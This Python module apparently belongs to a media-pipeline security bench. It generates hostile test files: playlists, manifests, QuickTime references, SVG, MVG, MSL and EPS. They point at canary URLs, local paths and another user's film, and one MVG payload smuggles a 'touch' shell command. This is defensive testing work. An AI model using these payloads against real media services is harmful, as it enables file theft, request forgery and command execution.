"""Files that name other files and addresses: playlists, manifests, scripts, references.

Every one points at the canaries and at the film of another child (`Bait`). Source of the list:
threats.md M-01 to M-08.
"""

import struct
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from functools import partial

from bench.malformed.boxes import box, full
from bench.malformed.movies import Track, movie, picture_entry


@dataclass(frozen=True, slots=True)
class Bait:
    """What hostile files ask for. `beside`: the other child's film as it lies beside theirs."""

    url: str
    file: str
    beside: str
    sibling: str
    written: str

    @property
    def places(self) -> tuple[str, ...]:
        """Every way to name one of them."""
        near = (self.beside, f"./{self.beside}", f"../originals/{self.beside}")
        urls = (f"{self.url}/playlist", f"tcp://{self.url.partition('//')[2]}")
        far = (self.sibling, f"file://{self.sibling}", f"file:{self.sibling}", self.file)
        joined = (
            f"concat:{self.beside}|{self.sibling}",
            f"subfile,,start,0,end,0,,:{self.sibling}",
        )
        return (*near, *far, *urls, *joined, f"crypto:{self.sibling}", f"cache:{self.url}/x")


def _m3u8(place: str, *, before: str = "") -> str:
    head = "#EXTM3U\n#EXT-X-VERSION:7\n#EXT-X-TARGETDURATION:4\n"
    return f"{head}{before}#EXTINF:4,\n{place}\n#EXT-X-ENDLIST\n"


def _dash(place: str) -> str:
    return (
        '<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" '
        'mediaPresentationDuration="PT4S" profiles="urn:mpeg:dash:profile:isoff-on-demand:2011">'
        '<Period><AdaptationSet contentType="video"><Representation id="1" bandwidth="1" '
        'mimeType="video/mp4" codecs="avc1">'
        f"<BaseURL>{place}</BaseURL><SegmentBase/></Representation></AdaptationSet></Period></MPD>"
    )


def _texts(bait: Bait) -> Iterator[tuple[str, str]]:
    for number, place in enumerate(bait.places):
        yield f"hls-{number}.mp4", _m3u8(place)
        yield f"concat-{number}.mov", f"ffconcat version 1.0\nfile '{place}'\nduration 4\n"
        yield f"dash-{number}.mp4", _dash(place)
    beside = bait.beside
    yield "hls-key.mp4", _m3u8(beside, before=f'#EXT-X-KEY:METHOD=AES-128,URI="{bait.url}/key"\n')
    yield "hls-map.mp4", _m3u8(beside, before=f'#EXT-X-MAP:URI="{beside}"\n')
    yield "hls-child.m4a", f"#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\n{beside}\n"
    yield (
        "hls-media.mp4",
        f'#EXTM3U\n#EXT-X-MEDIA:TYPE=AUDIO,GROUP-ID="a",URI="{bait.url}/a"\n{beside}\n',
    )
    yield (
        "sdp.mp4",
        "v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\n"
        f"m=video 9 RTP/AVP 96\na=control:{bait.url}\n",
    )
    yield "rtsp-redirect.mp4", f"RTSPtextRTSP/1.0 302 Moved\r\nLocation: {bait.url}/x\r\n\r\n"
    yield "pls.mp3", f"[playlist]\nFile1={bait.url}/x\nNumberOfEntries=1\n"
    yield "asx.wmv", f'<asx version="3.0"><entry><ref href="{bait.url}/x"/></entry></asx>'
    yield "smil.3gp", f'<smil><body><video src="{bait.url}/x"/></body></smil>'
    yield (
        "imf-cpl.mxf",
        f'<CompositionPlaylist xmlns="http://www.smpte-ra.org/schemas/2067-3/2016"><Path>{beside}</Path></CompositionPlaylist>',
    )
    yield (
        "imf-map.mxf",
        f'<AssetMap xmlns="http://www.smpte-ra.org/schemas/429-9/2007/AM"><Path>{beside}</Path></AssetMap>',
    )
    yield "avisynth.avi", f'AviSource("{bait.sibling}")\n'
    yield "vapoursynth.mp4", f"import vapoursynth\nopen('{bait.written}', 'w')\n"
    yield "lavfi.mp4", f"movie={bait.sibling}\n"
    yield "image2-pattern.jpg", "%d.jpg\n"
    yield (
        "svg.jpg",
        f'<svg xmlns="http://www.w3.org/2000/svg"><image href="{bait.url}/x"/><image href="file://{bait.file}"/></svg>',
    )
    yield (
        "mvg.png",
        f"push graphic-context\nimage over 0,0 9,9 'url({bait.url}/x\";touch {bait.written};\")'\n",
    )
    yield (
        "msl.jpg",
        f'<image><read filename="{bait.file}"/><write filename="{bait.written}"/></image>',
    )
    yield "eps.jpg", f"%!PS-Adobe-3.0 EPSF-3.0\n({bait.written}) (w) file closefile showpage\n"
    yield "pdf.jpg", f"%PDF-1.4\n1 0 obj<</S/URI/URI({bait.url}/x)>>endobj\n"
    yield "ansi.mp4", "\x1b[31mwords of a text file\x1b[0m\n" * 40
    yield "xbin.mp4", "XBIN\x1aP\0\x19\0\x10\0" + "ab" * 2000


_HEADS = {
    # heads that say "one of ours", with a playlist right behind
    "ftyp.mp4": box(b"ftyp", b"isom\0\0\0\0isom"),
    "free.mp4": box(b"free", b"free"),
    "id3.mp3": b"ID3\3\0\0\0\0\0\0",
    "adts.aac": b"\xff\xf1P\x80\0\x1f\xfc\0",
    "ogg.ogg": b"OggS\0\2",
    "flac.flac": b"fLaC\n",
    "amr.amr": b"#!AMR\n",
    "flv.flv": b"FLV\1\5\0\0\0\x09",
    "avi.avi": b"RIFF\xff\0\0\0AVI ",
    "wav.wav": b"RIFF\xff\0\0\0WAVE",
    "webp.webp": b"RIFF\xff\0\0\0WEBP",
    "gif.gif": b"GIF89a",
    "jpeg.jpg": b"\xff\xd8\xff\xfe\0\4ab",
    "png.png": b"\x89PNG\r\n\x1a\n",
    "ebml.mkv": b"\x1a\x45\xdf\xa3\x80",
    "vob.mpg": b"\0\0\1\xba",
    "asf.wmv": b"\x30\x26\xb2\x75\x8e\x66\xcf\x11",
}


def _in_packets(text: str) -> bytes:
    """A playlist with the sync byte of MPEG-TS wherever it is looked for."""
    padded = ("G" + "\n" + text).ljust(188, "#").encode()[:188]
    return (padded + (b"G" + b"#" * 187) * 9).replace(b"G#", b"G\n")


def files(bait: Bait) -> Iterator[tuple[str, Callable[[], bytes]]]:
    """Yield the name of each file and how to build it."""
    for name, text in _texts(bait):
        yield name, text.encode
    for name, head in _HEADS.items():
        yield f"hls-behind-{name}", partial(_behind, head, bait)
    yield "hls-in-packets.ts", lambda: _in_packets(_m3u8(bait.beside))
    yield from _references(bait)


def _behind(head: bytes, bait: Bait) -> bytes:
    return head + b"\n" + _m3u8(bait.beside).encode()


def _references(bait: Bait) -> Iterator[tuple[str, Callable[[], bytes]]]:
    for number, place in enumerate((bait.beside, bait.sibling, bait.file)):
        told = place.encode() + b"\0"
        outside = {"url": full(b"url ", told), "urn": full(b"urn ", told), "alis": _alias(place)}
        for name, dref in outside.items():
            track = Track(handler=b"vide", entry=picture_entry(b"avc1"), dref=dref)
            yield f"mov-{name}-{number}.mov", partial(movie, track.build())
        rmra = box(
            b"rmra", box(b"rmda", full(b"rdrf", b"url ", struct.pack(">I", len(told)), told))
        )
        yield f"mov-rmra-{number}.mov", partial(movie, more=rmra)
        text = _m3u8(place).encode()
        yield f"avi-gab2-{number}.avi", partial(_gab2, text)


def _alias(place: str) -> bytes:
    """An alias record that names an absolute and a relative path. Source: QuickTime, alis."""
    path = place.encode()
    told = struct.pack(">hH", 2, len(path)) + path + bytes(len(path) % 2)
    told += (
        struct.pack(">hH", 18, len(path)) + path + bytes(len(path) % 2) + struct.pack(">hH", -1, 0)
    )
    head = bytes(10) + b"\4Disk".ljust(28, b"\0") + bytes(12) + b"\4film".ljust(64, b"\0")
    return full(b"alis", head + bytes(16) + struct.pack(">HH", 1, 1) + bytes(16) + told)


def _gab2(text: bytes) -> bytes:
    """An AVI whose subtitle stream is a playlist."""

    def chunk(name: bytes, body: bytes) -> bytes:
        return name + struct.pack("<I", len(body)) + body + bytes(len(body) % 2)

    def several(name: bytes, *parts: bytes) -> bytes:
        return chunk(b"LIST", name + b"".join(parts))

    head = struct.pack("<14I", 100_000, 0, 0, 0x10, 1, 0, 1, 0, 96, 64, 0, 0, 0, 0)
    times = struct.pack("<4I", 0, 0, 1, 10) + struct.pack("<4I", 0, 1, 0, 0)
    stream = b"txts" + bytes(4) + times + bytes(16)
    told = (
        b"GAB2\0\2\0"
        + struct.pack("<I", 2)
        + b"a\0"
        + b"\4\0"
        + struct.pack("<I", len(text))
        + text
    )
    words = several(b"strl", chunk(b"strh", stream), chunk(b"strf", b""))
    return chunk(
        b"RIFF",
        b"AVI "
        + several(b"hdrl", chunk(b"avih", head), words)
        + several(b"movi", chunk(b"00tx", told)),
    )
